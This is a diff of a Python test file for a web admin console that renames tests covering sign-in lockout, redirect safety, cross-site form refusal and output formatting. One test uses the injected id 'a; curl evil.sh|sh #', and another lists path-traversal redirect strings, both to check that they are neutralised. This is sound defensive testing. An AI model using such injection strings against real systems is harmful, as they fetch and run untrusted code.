@@ -40,14 +40,14 @@ def home(home_engine: sa.Engine) -> Home:
     return Home(home_engine, copied=True)
 
 
-def test_there_is_no_console_until_it_is_set(home: Home) -> None:
+def test_console_when_not_configured_is_not_found(home: Home) -> None:
     async def work(client: httpx.AsyncClient, _: Any) -> list[int]:
         return [(await client.get(page.path)).status_code for page in PAGES]
 
     assert set(home.ask(work, console=False)) == {404}
 
 
-def test_a_link_sets_a_password_once_also_where_the_answer_is_lost(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_console_link_lost_answer_sets_password_once(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
     write(home.engine, lambda c: console_users.add(c, "cat", "viewer", secret(9), home.fleet.by))
     form = {"token": secret(9), "password": PASSWORD, "again": PASSWORD}
     with monkeypatch.context() as patch:
@@ -71,19 +71,19 @@ def test_a_link_sets_a_password_once_also_where_the_answer_is_lost(home: Home, m
 @cases(
     "url", ["drawdown.internal", "http://drawdown.internal", "https://x/console", "https://", "ftp://x", "https://x:y"]
 )
-def test_where_it_is_reached_has_to_be_an_origin_that_is_safe(url: str) -> None:
+def test_console_url_unsafe_origin_is_refused(url: str) -> None:
     with pytest.raises(UsageError, match="CONSOLE_URL"):
         session_auth.require_url(url)
     assert session_auth.require_url("http://127.0.0.1:8080") and session_auth.require_url(URL)
 
 
-def test_root_leads_to_the_console(home: Home) -> None:
+def test_root_path_redirects_to_console(home: Home) -> None:
     """It was a 404 in JSON for who opened the address that `serve` prints."""
     (answer,) = home.get("/")
     assert (answer.status_code, answer.headers["location"]) == (303, "/console/")
 
 
-def test_somebody_signs_in_goes_on_and_signs_out(home: Home) -> None:
+def test_console_sign_in_and_sign_out_affect_own_session_only(home: Home) -> None:
     wrong = home.post("/console/sign-in", {"name": "ann", "password": "no" + PASSWORD, "next": "/console/orgs"})
     assert (wrong.status_code, 'value="ann"' in wrong.text, 'value="/console/orgs"' in wrong.text) == (401, True, True)
     right = home.post("/console/sign-in", {"name": " Ann ", "password": PASSWORD, "next": "/console/orgs?state=halted"})
@@ -102,13 +102,13 @@ def test_somebody_signs_in_goes_on_and_signs_out(home: Home) -> None:
     )
 
 
-def test_a_name_that_is_nobodys_gets_the_very_same_answer(home: Home) -> None:
+def test_sign_in_unknown_name_gets_same_answer_as_known_name(home: Home) -> None:
     answers = [home.post("/console/sign-in", {"name": name, "password": "x" * 20}) for name in ("ann", "nobody")]
     first, second = (one.text.replace("nobody", "ann") for one in answers)
     assert first == second and {one.status_code for one in answers} == {401}
 
 
-def test_after_five_failures_not_even_the_right_password_is_looked_at(home: Home) -> None:
+def test_sign_in_after_five_failures_refuses_correct_password(home: Home) -> None:
     for _ in range(console_sessions.MOST_FAILURES):
         assert home.post("/console/sign-in", {"name": "ann", "password": ""}).status_code == 401
     assert home.post("/console/sign-in", {"name": "ann", "password": PASSWORD}).status_code == 429
@@ -124,7 +124,7 @@ def test_after_five_failures_not_even_the_right_password_is_looked_at(home: Home
         "/console/..%2fmy", "/console/%5c..%5cmy", "/console/..;/my", "/console/\t../my", None,
     ],
 )  # fmt: skip
-def test_whoever_signs_in_goes_on_in_the_console_alone(place: str | None) -> None:
+def test_sign_in_next_outside_console_redirects_to_overview(place: str | None) -> None:
     assert sign_in.inside(place) == "/console/"
 
 
@@ -139,11 +139,11 @@ def test_whoever_signs_in_goes_on_in_the_console_alone(place: str | None) -> Non
         "/console/.a",
     ],
 )
-def test_a_place_in_the_console_is_gone_on_to_as_it_is(place: str) -> None:
+def test_sign_in_next_inside_console_is_unchanged(place: str) -> None:
     assert sign_in.inside(place) == place
 
 
-def test_the_form_leads_nowhere_else(home: Home) -> None:
+def test_sign_in_form_next_outside_console_redirects_to_overview(home: Home) -> None:
     said = {"name": "ann", "password": PASSWORD, "next": "/console/../my/"}
     answer = home.post("/console/sign-in", said)
     assert (answer.status_code, answer.headers["location"]) == (303, "/console/")
@@ -162,7 +162,7 @@ ORIGINS: Final[list[tuple[dict[str, str], bool]]] = [
 ]
 
 
-def test_a_form_is_taken_from_our_own_pages_alone(home: Home) -> None:
+def test_console_form_cross_site_post_is_refused(home: Home) -> None:
     for headers, taken in ORIGINS:
         for path in ("/console/sign-out", "/console/link"):
             answer = home.post(path, {"password": "y", "again": "x", "token": secret(9)}, headers)
@@ -181,13 +181,13 @@ FORMS: Final = [
 ]
 
 
-def test_a_form_that_makes_no_sense_is_refused_in_words(home: Home) -> None:
+def test_sign_in_form_invalid_body_is_refused_with_message(home: Home) -> None:
     for body, status in FORMS:
         answer = home.post("/console/sign-in", body)
         assert answer.status_code == status and "<h1>" in answer.text
 
 
-def test_what_cannot_be_read_says_which_part_and_since_when(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_console_page_during_database_outage_names_page_and_start(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
     def fail(*_: object) -> Never:
         raise DatabaseBusy("the database does not answer")
 
@@ -208,7 +208,7 @@ def test_what_cannot_be_read_says_which_part_and_since_when(home: Home, monkeypa
     assert told()[1] == ("", figures.iso(began + 6 * MINUTE_MS)), "it was well meanwhile"
 
 
-def test_passwords_are_looked_at_a_few_at_once(home: Home) -> None:
+def test_sign_in_concurrent_password_hashes_are_bounded(home: Home) -> None:
     async def work(client: httpx.AsyncClient, console: Any) -> list[int]:
         console._sign_in._hashes = sign_in.MOST_HASHES
         form = {"name": "ann", "password": PASSWORD}
@@ -218,7 +218,7 @@ def test_passwords_are_looked_at_a_few_at_once(home: Home) -> None:
     assert sign_in.HASHES_AT_ONCE <= sign_in.MOST_HASHES
 
 
-def test_whoever_is_not_signed_in_is_asked_to_and_a_foreign_cookie_is_none(home: Home) -> None:
+def test_console_without_valid_session_redirects_to_sign_in(home: Home) -> None:
     for session in (None, 8):
         pages = [f"{page.path}{page.example}" for page in PAGES]
         for answer in home.get(*pages, "/console/orgs.csv", session=session):
@@ -229,7 +229,7 @@ def test_whoever_is_not_signed_in_is_asked_to_and_a_foreign_cookie_is_none(home:
     assert answer.status_code == 303
 
 
-def test_proven_proxy_names_the_user_and_the_role_is_decided_here(engine: sa.Engine) -> None:
+def test_proxy_sign_in_with_proven_header_uses_local_role(engine: sa.Engine) -> None:
     home = Home(engine, console_proxy_header="x-forwarded-user", console_proxy_secret="between us")
     proof = {"x-drawdown-proxy-secret": "between us"}
 
@@ -276,7 +276,7 @@ NONSENSE: Final = [
 ]
 
 
-def test_nonsense_is_refused_in_words(home: Home) -> None:
+def test_console_invalid_parameters_are_refused_with_message(home: Home) -> None:
     answers = home.get(*(place for place, _, _ in NONSENSE))
     for (place, status, said), answer in zip(NONSENSE, answers, strict=True):
         assert answer.status_code == status and says(answer.text, said), (place, answer.text[-600:])
@@ -300,7 +300,7 @@ def test_each_answer_has_policy_and_only_static_files_are_cached(home: Home) -> 
 
 
 @pytest.mark.both_databases
-def test_a_page_reads_only_and_only_for_so_long(engine: sa.Engine) -> None:
+def test_console_page_query_is_read_only_and_times_out(engine: sa.Engine) -> None:
     postgresql = engine.dialect.name == "postgresql"
     slow = (
         "SELECT pg_sleep(5)"
@@ -316,7 +316,7 @@ def test_a_page_reads_only_and_only_for_so_long(engine: sa.Engine) -> None:
     assert WITHIN_S < 30 and consoles.AT_ONCE == 4
 
 
-def test_a_list_goes_on_behind_its_last_row_and_ends(home: Home) -> None:
+def test_orgs_list_pages_contain_each_org_once(home: Home) -> None:
     names = [f"org-{n:03}" for n in range(2 * orgs.PAGE_ROWS)]
     home.register(names)
     path, seen = "/console/orgs", []
@@ -328,7 +328,7 @@ def test_a_list_goes_on_behind_its_last_row_and_ends(home: Home) -> None:
     assert seen == ["acme", *names]
 
 
-def test_whose_first_assignment_begins_later_is_scheduled(home: Home) -> None:
+def test_org_with_future_first_assignment_is_shown_scheduled(home: Home) -> None:
     home.fleet.assign("later", from_ms=home.fleet.clock.at_ms + DAY_MS)
     page, listed = home.get("/console/org?id=later", "/console/orgs?state=scheduled")
     assert (
@@ -337,7 +337,7 @@ def test_whose_first_assignment_begins_later_is_scheduled(home: Home) -> None:
     assert re.findall(r"/console/org\?id=([^\"]+)\"", listed.text) == ["later"]
 
 
-def test_files_are_made_a_few_at_once_and_each_is_on_record(home: Home) -> None:
+def test_console_files_concurrency_is_bounded_and_export_audited(home: Home) -> None:
     async def work(client: httpx.AsyncClient, console: Any) -> list[int]:
         cookie = {"cookie": f"{COOKIE}={secret(7)}"}
         console._files._under_way = files.MOST_FILES
@@ -354,7 +354,7 @@ def test_files_are_made_a_few_at_once_and_each_is_on_record(home: Home) -> None:
     ]
 
 
-def test_a_large_file_comes_in_pieces(home: Home) -> None:
+def test_console_large_file_is_streamed_in_pieces(home: Home) -> None:
     home.register(f"an-organisation-with-a-rather-long-name-{n:05}" for n in range(3_000))
 
     async def work(client: httpx.AsyncClient, _: Any) -> list[int]:
@@ -373,11 +373,11 @@ def test_a_large_file_comes_in_pieces(home: Home) -> None:
         (-1_234_567_890, f"{figures.MINUS}1,234.57"), (999_995_000, "1,000.00"), (10_000, "0.01"),
     ],
 )  # fmt: skip
-def test_money_is_told_so(micro: int | None, text: str) -> None:
+def test_credits_figure_is_formatted(micro: int | None, text: str) -> None:
     assert figures.credits(micro) == text
 
 
-def test_times_are_told_so() -> None:
+def test_time_and_duration_figures_are_formatted() -> None:
     assert figures.time(T0) == "2026-01-01 00:00" and figures.time(None) == figures.UNKNOWN
     assert [figures.lasting(ms) for ms in (0, 61_000, 3 * 3_600_000 + 720_000, 2 * DAY_MS)] == [
         "0 s",
@@ -388,7 +388,7 @@ def test_times_are_told_so() -> None:
     assert (figures.ago(T0, T0 + 60_000), figures.ago(T0 + 60_000, T0)) == ("1 min ago", "in 1 min")
 
 
-def test_a_chart_adds_up_small_series_and_its_axis_has_round_steps() -> None:
+def test_stacked_chart_small_series_are_merged_and_axis_is_rounded() -> None:
     days = [("a", {f"f{n}": n * MICRO for n in range(7)}), ("b", {"f6": 1})]
     found = charts.stacked(days, "<said>", MICRO)
     assert [name for name, _, _ in found.series] == ["f6", "f5", "f4", charts.OTHERS]
@@ -397,7 +397,7 @@ def test_a_chart_adds_up_small_series_and_its_axis_has_round_steps() -> None:
     assert charts.stacked([], "none", MICRO).axis == ["1", "0.5", "0"]
 
 
-def test_command_shown_for_copying_quotes_hostile_id_as_one_word(home: Home) -> None:
+def test_shown_command_with_hostile_id_is_quoted(home: Home) -> None:
     hostile = "a; curl evil.sh|sh #"
     home.fleet.assign(hostile, from_ms=T0)
     home.fleet.sample(hostile, home.now - 1)
@@ -419,7 +419,7 @@ def test_command_shown_for_copying_quotes_hostile_id_as_one_word(home: Home) -> 
     assert shown > len(paths) / 2
 
 
-def test_session_is_known_once_found_and_until_it_ends(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_known_console_session_is_remembered_until_end(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
     """Requests with a known session wait for no flood of unauthenticated ones."""
     monkeypatch.setattr(limits, "MOST_KNOWN", 1)
 
